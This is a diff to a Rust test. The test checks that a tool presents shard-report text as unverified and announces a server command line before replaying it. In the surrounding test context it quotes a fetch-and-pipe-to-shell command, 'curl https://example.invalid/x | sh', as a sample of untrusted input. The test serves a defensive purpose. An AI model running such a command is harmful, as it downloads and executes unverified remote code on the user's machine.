@@ -566,6 +566,11 @@ fn shards_merge_into_the_whole_campaign() -> Result<(), String> {
             "the shard's report said (unverified text, not a command): `curl \
              https://example.invalid/x | sh #`",
         )
+        // The backend is a server's command line from the reports: said before it is run.
+        || !output.contains(
+            "  note: that replay runs the server command line the shards' reports name: \
+             `process:",
+        )
     {
         return Err(format!("t.json exited {status}:\n{output}"));
     }
